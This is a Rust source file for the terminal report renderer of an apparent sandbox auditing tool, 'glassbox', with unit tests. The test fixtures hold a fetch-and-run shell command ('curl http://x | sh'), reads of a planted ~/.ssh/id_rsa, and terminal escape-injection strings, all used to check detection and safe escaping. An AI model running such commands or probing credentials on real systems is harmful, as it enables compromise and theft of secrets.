//! The terminal renderer.

use crate::escape;
use crate::tables::{
    self, phases, FileUse, Row, CONNECTIONS_CAP, FILES_CAP, FINDINGS_CAP, FLOWS_CAP, NAME,
    NOTES_CAP, PROCESSES_CAP, TOOLS_CAP, WIDE,
};
use glassbox_model::{AuditReport, CallResult, CheckResult, Evidence, Finding, Outcome, Verdict};
use std::fmt::Write as _;

/// Widest first column before it stops being padded.
const COLUMN: usize = 44;

const BOLD: &str = "1";
const DIM: &str = "2";
const RED: &str = "1;31";
const GREEN: &str = "32";
const YELLOW: &str = "33";

struct Style {
    color: bool,
}

impl Style {
    fn paint(&self, code: &str, s: &str) -> String {
        if self.color {
            format!("\x1b[{code}m{s}\x1b[0m")
        } else {
            s.to_string()
        }
    }

    fn heading(&self, out: &mut String, title: &str) {
        let _ = writeln!(out, "\n{}", self.paint(BOLD, title));
    }
}

pub(crate) fn render(ev: &Evidence, report: &AuditReport, color: bool) -> String {
    let st = Style { color };
    let mut out = String::new();
    header(&mut out, &st, ev, report);
    files(&mut out, &st, ev);
    processes(&mut out, &st, ev);
    connections(&mut out, &st, ev);
    network(&mut out, &st, ev);
    tools(&mut out, &st, report);
    checks(&mut out, &st, report);
    out
}

fn header(out: &mut String, st: &Style, ev: &Evidence, report: &AuditReport) {
    let _ = writeln!(
        out,
        "{} {}",
        st.paint(BOLD, "glassbox audit"),
        tables::command(ev)
    );
    let code = match report.verdict {
        Verdict::Clean => GREEN,
        Verdict::Flagged => RED,
        Verdict::Withheld | Verdict::Inconclusive => YELLOW,
    };
    let label = tables::verdict(report.verdict);
    let _ = writeln!(out, "  verdict   {}", st.paint(code, label));
    if let Some(reason) = &report.inconclusive_reason {
        let _ = writeln!(out, "  reason    {}", escape::text(reason));
    }
    let _ = writeln!(out, "  run       {}", escape::text(&report.run_id));
    let _ = writeln!(out, "  evidence  {}", escape::text(&report.evidence_dir));
    let _ = writeln!(out, "  session   {}", tables::session(ev));
    if let Some(text) = tables::server_exit(ev) {
        let _ = writeln!(out, "  server    {text}");
    }
    let _ = writeln!(out, "  recorded  {}", tables::recorded(ev));
    if let Some(text) = tables::network(ev) {
        let _ = writeln!(out, "  network   {text}");
    }
    if let Some(text) = tables::install(ev) {
        let _ = writeln!(out, "  install   {text}");
    }
}

/// Writes "  none" and returns `None` when `rows` is empty; else the width of the first column
/// over the first `cap` rows (at most [`COLUMN`]).
fn first_column_width<T: AsRef<str>, U>(
    out: &mut String,
    rows: &[Row<(T, U)>],
    cap: usize,
) -> Option<usize> {
    if rows.is_empty() {
        let _ = writeln!(out, "  none");
        return None;
    }
    rows.iter()
        .take(cap)
        .map(|r| r.data.0.as_ref().chars().count().min(COLUMN))
        .max()
}

fn times(count: usize) -> String {
    if count > 1 {
        format!(" ×{count}")
    } else {
        String::new()
    }
}

fn pad(s: &str, width: usize) -> String {
    let n = s.chars().count();
    if n >= width {
        format!("{s}  ")
    } else {
        format!("{s}{}", " ".repeat(width - n + 2))
    }
}

fn more(out: &mut String, st: &Style, shown: usize, total: usize, indent: &str, see: &str) {
    if total > shown {
        let line = format!("… and {} more (see {see})", total - shown);
        let _ = writeln!(out, "{indent}{}", st.paint(DIM, &line));
    }
}

fn files(out: &mut String, st: &Style, ev: &Evidence) {
    st.heading(out, "Files touched under home");
    let Some(rows) = tables::files(ev) else {
        let _ = writeln!(out, "  (home directory not recorded in the manifest)");
        return;
    };
    let Some(width) = first_column_width(out, &rows, FILES_CAP) else {
        return;
    };
    let what_width = rows
        .iter()
        .take(FILES_CAP)
        .map(|r| r.data.1.text().len())
        .max()
        .unwrap_or(0);
    for r in rows.iter().take(FILES_CAP) {
        let (path, u): &(String, FileUse) = &r.data;
        let _ = writeln!(
            out,
            "  {}{}{}{}",
            pad(&escape::truncate(path, WIDE), width),
            pad(&u.text(), what_width),
            phases(&r.phases),
            times(r.count)
        );
    }
    more(out, st, FILES_CAP, rows.len(), "  ", "events.jsonl");
}

fn processes(out: &mut String, st: &Style, ev: &Evidence) {
    st.heading(out, "Processes");
    let rows = tables::processes(ev);
    if rows.is_empty() {
        let _ = writeln!(out, "  none");
        return;
    }
    for r in rows.iter().take(PROCESSES_CAP) {
        let p = &r.data;
        let ids = pad(&format!("pid {} (parent {})", p.pid, p.ppid), 22);
        let _ = writeln!(
            out,
            "  {ids}{}  {}{}",
            p.argv,
            st.paint(DIM, &phases(&r.phases)),
            times(r.count)
        );
    }
    more(out, st, PROCESSES_CAP, rows.len(), "  ", "events.jsonl");
}

fn connections(out: &mut String, st: &Style, ev: &Evidence) {
    st.heading(out, "Connection attempts");
    let rows = tables::connections(ev);
    let Some(width) = first_column_width(out, &rows, CONNECTIONS_CAP) else {
        return;
    };
    for r in rows.iter().take(CONNECTIONS_CAP) {
        let (dest, syscall) = &r.data;
        let _ = writeln!(
            out,
            "  {}{}  {}{}",
            pad(&escape::truncate(dest, WIDE), width),
            pad(syscall, 7),
            phases(&r.phases),
            times(r.count)
        );
    }
    more(out, st, CONNECTIONS_CAP, rows.len(), "  ", "events.jsonl");
}

/// What reached the network edge, per run: how each run's edge was set up and checked, then
/// the flows grouped by run, protocol and destination (with the names behind them).
fn network(out: &mut String, st: &Style, ev: &Evidence) {
    let net = &ev.manifest.network;
    if net.runs.is_empty() {
        return;
    }
    st.heading(out, "Network (every packet ends at glassbox's edge)");
    for r in tables::runs(ev) {
        let isolation = if r.isolation_verified {
            st.paint(GREEN, "isolation verified")
        } else {
            st.paint(RED, "isolation NOT verified")
        };
        let _ = writeln!(
            out,
            "  {} run: {} packets, {} flows; {isolation}; {} calls with no packet",
            r.mode, r.packets, r.flows, r.calls_without_flow
        );
    }
    let groups = tables::flows(ev);
    if groups.is_empty() {
        let _ = writeln!(out, "  no flows");
        return;
    }
    for g in groups.iter().take(FLOWS_CAP) {
        let key = format!("{:<7} {:<4} {}", g.mode.name(), g.protocol, g.destination);
        let read = match g.read.is_empty() {
            true => String::new(),
            false => format!("; {}", g.read),
        };
        let _ = writeln!(
            out,
            "  {}  {} flows, {} packets, {} bytes out{read}",
            escape::truncate(&key, WIDE),
            g.flows,
            g.packets,
            g.bytes
        );
    }
    more(out, st, FLOWS_CAP, groups.len(), "  ", "network.jsonl");
}

fn tools(out: &mut String, st: &Style, report: &AuditReport) {
    st.heading(out, &format!("Tools ({})", report.tools.len()));
    if report.tools.is_empty() {
        let _ = writeln!(out, "  none listed");
        return;
    }
    let names: Vec<String> = report
        .tools
        .iter()
        .map(|t| escape::truncate(&escape::text(&t.name), NAME))
        .collect();
    let width = names
        .iter()
        .take(TOOLS_CAP)
        .map(|n| n.chars().count().min(COLUMN))
        .max()
        .unwrap_or(0);
    for (t, name) in report.tools.iter().zip(&names).take(TOOLS_CAP) {
        let counts = t.outcomes();
        let text = tables::outcomes(&counts);
        let result = match counts.as_slice() {
            [(CallResult::Ok, _)] => st.paint(GREEN, &text),
            [(CallResult::NotCalled, _)] => st.paint(DIM, &text),
            _ => st.paint(YELLOW, &text),
        };
        if t.called {
            let _ = writeln!(out, "  {}called  {result}", pad(name, width));
        } else {
            let _ = writeln!(out, "  {}{}", pad(name, width), st.paint(DIM, "not called"));
        }
    }
    more(out, st, TOOLS_CAP, report.tools.len(), "  ", "report.json");
    if let Some(totals) = tables::call_totals(report) {
        let _ = writeln!(out, "  {}", st.paint(DIM, &totals));
    }
    let rows = tables::call_rows(report);
    if !rows.is_empty() {
        let _ = writeln!(
            out,
            "  {}",
            st.paint(DIM, "calls (what findings name as their phase):")
        );
        for r in rows.iter().take(TOOLS_CAP) {
            let note = if r.note.is_empty() {
                String::new()
            } else {
                format!("  ({})", r.note)
            };
            let _ = writeln!(out, "    {}  {}: {}{note}", r.phase, r.label, r.outcome);
        }
        more(out, st, TOOLS_CAP, rows.len(), "    ", "report.json");
    }
}

/// The verdict and the checks only (for re-evaluations, which keep no event tables).
pub(crate) fn render_checks(report: &AuditReport, color: bool) -> String {
    let st = Style { color };
    let mut out = String::new();
    let _ = writeln!(
        out,
        "  verdict   {}",
        format!("{:?}", report.verdict).to_uppercase()
    );
    if let Some(r) = &report.inconclusive_reason {
        let _ = writeln!(out, "  reason    {}", escape::text(r));
    }
    checks(&mut out, &st, report);
    out
}

fn checks(out: &mut String, st: &Style, report: &AuditReport) {
    st.heading(out, "Checks");
    if report.checks.is_empty() {
        let _ = writeln!(out, "  none evaluated");
        return;
    }
    for c in &report.checks {
        check(out, st, c);
    }
}

fn check(out: &mut String, st: &Style, c: &CheckResult) {
    let (label, code) = match c.outcome {
        Outcome::Pass => ("pass", GREEN),
        Outcome::Flag => ("FLAG", RED),
        Outcome::Unverified => ("unverified", YELLOW),
        Outcome::NotObserved => ("not observed", YELLOW),
        Outcome::Inconclusive => ("inconclusive", YELLOW),
        Outcome::Retracted => ("retracted", YELLOW),
    };
    let id = format!("{} v{}", escape::text(&c.id), c.version);
    let severity = if c.outcome == Outcome::Flag {
        format!(" ({})", format!("{:?}", c.severity).to_lowercase())
    } else {
        String::new()
    };
    let _ = writeln!(
        out,
        "  {}{}  {}{severity}",
        pad(&id, 22),
        st.paint(code, &format!("{label:<12}")),
        escape::text(&c.claim)
    );
    if let Some(reason) = &c.reason {
        let _ = writeln!(out, "      {}", st.paint(DIM, &escape::text(reason)));
    }
    for f in c.findings.iter().take(FINDINGS_CAP) {
        finding(out, st, "✗", f);
    }
    more(
        out,
        st,
        FINDINGS_CAP,
        c.findings.len(),
        "      ",
        "report.json",
    );
    for n in c.notes.iter().take(NOTES_CAP) {
        finding(out, st, "·", n);
    }
    more(out, st, NOTES_CAP, c.notes.len(), "      ", "report.json");
}

fn finding(out: &mut String, st: &Style, mark: &str, f: &Finding) {
    let mut refs = tables::id_list("event", &f.evidence);
    if let Some(p) = &f.phase {
        if !refs.is_empty() {
            refs.push_str("; ");
        }
        refs.push_str(&escape::text(&p.to_string()));
    }
    let mark = if mark == "✗" {
        st.paint(RED, mark)
    } else {
        mark.to_string()
    };
    let _ = write!(out, "    {mark} {}", escape::text(&f.summary));
    if !refs.is_empty() {
        let _ = write!(out, "  {}", st.paint(DIM, &format!("[{refs}]")));
    }
    out.push('\n');
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fixture::{event, exec, open};
    use glassbox_model::{
        Bytes, EventKind, Manifest, Phase, SandboxSettings, SessionSummary, Severity, SockAddr,
        Target, ToolSummary,
    };

    fn evidence(kinds: Vec<(Phase, EventKind)>) -> Evidence {
        Evidence {
            manifest: Manifest {
                run_id: "run-42".into(),
                target: Target {
                    command: vec!["node".into(), "server.js".into()],
                    ..Target::default()
                },
                sandbox: SandboxSettings {
                    home: "/home/user".into(),
                    cwd: "/home/user/project".into(),
                    ..SandboxSettings::default()
                },
                session: SessionSummary {
                    completed: true,
                    ..SessionSummary::default()
                },
                ..Manifest::default()
            },
            events: kinds
                .into_iter()
                .enumerate()
                .map(|(i, (p, k))| event(i as u64 + 1, 2 + i as i32, p, k))
                .collect(),
            transcript: vec![],
            flows: vec![],
        }
    }

    fn report(checks: Vec<CheckResult>, tools: Vec<ToolSummary>) -> AuditReport {
        AuditReport {
            glassbox_version: "0.1.0".into(),
            run_id: "run-42".into(),
            evidence_dir: "/var/lib/glassbox/run-42".into(),
            verdict: Verdict::Flagged,
            inconclusive_reason: None,
            checks,
            tools,
            call_outcomes: Default::default(),
        }
    }

    fn check_result(outcome: Outcome, findings: Vec<Finding>, notes: Vec<Finding>) -> CheckResult {
        CheckResult {
            id: "credential-probe".into(),
            version: 1,
            claim: "no credential probing".into(),
            severity: Severity::High,
            outcome,
            reason: None,
            findings,
            notes,
        }
    }

    fn finding(summary: &str, evidence: Vec<u64>, phase: Phase) -> Finding {
        Finding {
            check: "credential-probe".into(),
            version: 1,
            summary: summary.into(),
            evidence,
            phase: Some(phase),
            accusation: false,
            flows: Vec::new(),
        }
    }

    fn call(t: &str) -> Phase {
        Phase::Call(t.into())
    }

    fn sample() -> (Evidence, AuditReport) {
        let ev = evidence(vec![
            (Phase::Startup, exec(&["node", "server.js"])),
            (Phase::Startup, open(b"/home/user/project/package.json", 0)),
            (call("get_weather"), open(b"/home/user/.ssh/id_rsa", 0)),
            (call("get_weather"), open(b"/home/user/x/../.ssh/id_rsa", 0)),
            (
                Phase::Shutdown,
                EventKind::Stat {
                    syscall: "statx".into(),
                    path: "/home/user/.ssh/id_rsa".into(),
                },
            ),
            (Phase::Startup, open(b"/home/user/.bashrc", 0o1101)),
            (Phase::Startup, open(b"/usr/lib/node/x.js", 0)),
            (call("run"), exec(&["sh", "-c", "curl http://x | sh"])),
            (
                call("get_weather"),
                EventKind::Connect {
                    syscall: "connect".into(),
                    fd: 5,
                    addr: SockAddr::Inet {
                        ip: "198.18.0.7".into(),
                        port: 443,
                    },
                },
            ),
        ]);
        let rep = report(
            vec![
                check_result(
                    Outcome::Flag,
                    vec![finding(
                        "read + stat of ~/.ssh/id_rsa (planted secret) during call:get_weather",
                        vec![3, 4, 5],
                        call("get_weather"),
                    )],
                    vec![],
                ),
                CheckResult {
                    id: "process-spawn".into(),
                    claim: "spawns no shells or network tools".into(),
                    outcome: Outcome::Pass,
                    severity: Severity::Medium,
                    ..check_result(Outcome::Pass, vec![], vec![])
                },
            ],
            vec![
                ToolSummary {
                    name: "get_weather".into(),
                    called: true,
                    result: CallResult::Ok,
                    calls: Vec::new(),
                },
                ToolSummary {
                    name: "run".into(),
                    called: false,
                    result: CallResult::NotCalled,
                    calls: Vec::new(),
                },
            ],
        );
        (ev, rep)
    }

    #[test]
    fn sections_are_present_in_order() {
        let (ev, rep) = sample();
        let out = render(&ev, &rep, false);
        println!("{out}");
        let mut at = 0;
        for s in [
            "glassbox audit node server.js",
            "verdict   FLAGGED",
            "run       run-42",
            "evidence  /var/lib/glassbox/run-42",
            "Files touched under home",
            "Processes",
            "Connection attempts",
            "Tools (2)",
            "Checks",
        ] {
            let found = out[at..]
                .find(s)
                .unwrap_or_else(|| panic!("{s:?} missing in\n{out}"));
            at += found + s.len();
        }
        assert!(!out.contains('\x1b'), "no ANSI without color");
    }

    #[test]
    fn files_are_collapsed_per_normalized_path_with_what_and_phases() {
        let (ev, rep) = sample();
        let out = render(&ev, &rep, false);
        let line = |needle: &str| {
            out.lines()
                .find(|l| l.trim_start().starts_with(needle))
                .unwrap_or_else(|| panic!("{needle} missing in\n{out}"))
                .to_string()
        };
        let ssh = line("~/.ssh/id_rsa");
        assert!(ssh.contains("read+stat"), "{ssh}");
        assert!(ssh.contains("call:get_weather, shutdown"), "{ssh}");
        assert!(ssh.ends_with("×3"), "{ssh}");
        assert!(line("~/.bashrc").contains("write"));
        assert!(line("~/project/package.json").contains("read"));
        assert!(!out.contains("/usr/lib/node"), "only files under home");
        assert!(line("pid 9 (parent 1)").contains("sh -c 'curl http://x | sh'"));
        let conn = line("198.18.0.7:443");
        assert!(
            conn.contains("connect") && conn.contains("call:get_weather"),
            "{conn}"
        );
    }

    #[test]
    fn checks_show_outcome_claim_findings_and_evidence() {
        let (ev, rep) = sample();
        let out = render(&ev, &rep, false);
        assert!(out.contains("credential-probe v1"), "{out}");
        assert!(
            out.contains("FLAG") && out.contains("no credential probing (high)"),
            "{out}"
        );
        assert!(out.contains("✗ read + stat of ~/.ssh/id_rsa"), "{out}");
        assert!(out.contains("[events 3, 4, 5; call:get_weather]"), "{out}");
        assert!(out.contains("process-spawn v1"), "{out}");
        assert!(out.contains("pass") && out.contains("spawns no shells or network tools"));
    }

    #[test]
    fn empty_sections_say_none() {
        let ev = evidence(vec![]);
        let rep = AuditReport {
            verdict: Verdict::Inconclusive,
            inconclusive_reason: Some("the session did not complete: timeout".into()),
            ..report(vec![], vec![])
        };
        let out = render(&ev, &rep, false);
        assert!(out.contains("Connection attempts\n  none\n"), "{out}");
        assert!(out.contains("Files touched under home\n  none\n"), "{out}");
        assert!(out.contains("Processes\n  none\n"), "{out}");
        assert!(out.contains("Tools (0)\n  none listed\n"), "{out}");
        assert!(out.contains("verdict   INCONCLUSIVE"), "{out}");
        assert!(
            out.contains("reason    the session did not complete: timeout"),
            "{out}"
        );
    }

    #[test]
    fn hostile_strings_are_escaped() {
        let evil = "x\x1b]0;owned\x07\x1b[2J\nFAKE LINE\r\u{202e}txt";
        let mut ev = evidence(vec![
            (call(evil), open(format!("/home/user/{evil}").as_bytes(), 0)),
            (Phase::Startup, exec(&["sh", "-c", evil])),
            (
                Phase::Startup,
                EventKind::Connect {
                    syscall: "connect".into(),
                    fd: 3,
                    addr: SockAddr::Unix {
                        path: Bytes::from(evil),
                        is_abstract: false,
                    },
                },
            ),
            (Phase::Startup, open(b"/home/user/\xff\x9b31m", 0)),
        ]);
        ev.manifest.session.completed = false;
        ev.manifest.session.failure = Some(evil.into());
        let mut rep = report(
            vec![check_result(
                Outcome::Flag,
                vec![finding(evil, vec![1], call(evil))],
                vec![finding(evil, vec![2], Phase::Startup)],
            )],
            vec![ToolSummary {
                name: evil.into(),
                called: true,
                result: CallResult::Ok,
                calls: Vec::new(),
            }],
        );
        rep.inconclusive_reason = Some(evil.into());
        for color in [false, true] {
            let out = render(&ev, &rep, color);
            for bad in ['\x07', '\r', '\u{202e}', '\u{9b}'] {
                assert!(!out.contains(bad), "{bad:?} in\n{out}");
            }
            assert!(!out.contains("\nFAKE LINE"), "{out}");
            assert!(!out.contains("\x1b]"), "{out}");
            assert!(!out.contains("\x1b[2J"), "{out}");
            // The only escape sequences are our own colors.
            let stripped = out
                .replace("\x1b[0m", "")
                .replace("\x1b[1m", "")
                .replace("\x1b[2m", "")
                .replace("\x1b[32m", "")
                .replace("\x1b[33m", "")
                .replace("\x1b[1;31m", "");
            assert!(!stripped.contains('\x1b'), "{stripped}");
            assert!(out.contains("x\\u{1b}]0;owned\\u{7}\\u{1b}[2J\\nFAKE LINE\\r\\u{202e}txt"));
            assert_eq!(out.contains("\x1b[1;31mFLAG"), color);
        }
    }

    #[test]
    fn long_lists_are_capped() {
        let mut kinds = Vec::new();
        for i in 0..(FILES_CAP + 7) {
            kinds.push((
                Phase::Startup,
                open(format!("/home/user/f{i}").as_bytes(), 0),
            ));
        }
        for i in 0..(PROCESSES_CAP + 3) {
            kinds.push((Phase::Startup, exec(&["git", &format!("{i}")])));
        }
        for i in 0..(CONNECTIONS_CAP + 1) {
            kinds.push((
                Phase::Startup,
                EventKind::Connect {
                    syscall: "sendto".into(),
                    fd: 3,
                    addr: SockAddr::Inet {
                        ip: format!("10.0.0.{i}"),
                        port: 53,
                    },
                },
            ));
        }
        let ev = evidence(kinds);
        let tools = (0..TOOLS_CAP + 2)
            .map(|i| ToolSummary {
                name: format!("t{i}"),
                called: true,
                result: CallResult::Ok,
                calls: Vec::new(),
            })
            .collect();
        let findings = (0..FINDINGS_CAP + 4)
            .map(|i| finding(&format!("f{i}"), vec![1], Phase::Startup))
            .collect();
        let notes = (0..NOTES_CAP + 5)
            .map(|i| finding(&format!("n{i}"), (1..=20).collect(), Phase::Startup))
            .collect();
        let rep = report(vec![check_result(Outcome::Flag, findings, notes)], tools);
        let out = render(&ev, &rep, false);
        assert!(out.contains("… and 7 more (see events.jsonl)"), "{out}");
        assert!(out.contains("… and 3 more (see events.jsonl)"), "{out}");
        assert!(out.contains("… and 1 more (see events.jsonl)"), "{out}");
        assert!(out.contains("… and 2 more (see report.json)"), "{out}");
        assert!(out.contains("… and 4 more (see report.json)"), "{out}");
        assert!(out.contains("… and 5 more (see report.json)"), "{out}");
        assert!(
            out.contains("[events 1, 2, 3, 4, 5, 6, 7, 8, +12; startup]"),
            "{out}"
        );
        assert!(!out.contains(&format!("~/f{FILES_CAP}")), "{out}");
        assert!(out.contains(&format!("~/f{}", FILES_CAP - 1)), "{out}");
        assert!(out.lines().count() < 200);
    }
}

#[cfg(test)]
mod network_tests {
    use super::*;
    use glassbox_model::{
        Bytes, Flow, FlowProtocol, Manifest, NetworkMode, NetworkRun, NetworkSettings, SockAddr,
    };

    fn flow(mode: NetworkMode, sni: &[u8]) -> Flow {
        Flow {
            id: 1,
            mode,
            t_ns: 1,
            end_ns: 2,
            protocol: FlowProtocol::Tcp,
            src: None,
            dst: SockAddr::Inet {
                ip: "192.0.2.80".into(),
                port: 443,
            },
            dns_name: None,
            dns: None,
            sni: Some(Bytes(sni.to_vec())),
            http: None,
            packets_out: 3,
            bytes_out: 517,
            bytes_in: 0,
            sample: Bytes(vec![]),
            sample_truncated: false,
            events: vec![7],
            note: None,
            ..Default::default()
        }
    }

    #[test]
    fn flows_are_grouped_per_run_and_hostile_names_stay_inert() {
        let ev = Evidence {
            manifest: Manifest {
                network: NetworkSettings {
                    runs: vec![
                        NetworkRun {
                            mode: NetworkMode::Capture,
                            isolation_verified: true,
                            ..NetworkRun::default()
                        },
                        NetworkRun {
                            mode: NetworkMode::Denied,
                            isolation_verified: true,
                            ..NetworkRun::default()
                        },
                    ],
                    ..NetworkSettings::default()
                },
                ..Manifest::default()
            },
            events: vec![],
            transcript: vec![],
            flows: vec![
                flow(NetworkMode::Capture, b"dns.google\x1b[2J"),
                flow(NetworkMode::Capture, b"dns.google\x1b[2J"),
                flow(NetworkMode::Denied, b"x"),
            ],
        };
        let mut out = String::new();
        network(&mut out, &Style { color: false }, &ev);
        assert!(
            out.contains("capture run: 0 packets, 2 flows; isolation verified"),
            "{out}"
        );
        assert!(
            out.contains("capture tcp  192.0.2.80:443 SNI dns.google\\u{1b}[2J  2 flows, 6 packets, 1034 bytes out"),
            "{out}"
        );
        assert!(
            out.contains("denied  tcp  192.0.2.80:443 SNI x  1 flows"),
            "{out}"
        );
        assert!(!out.contains('\x1b'), "{out}");
    }
}
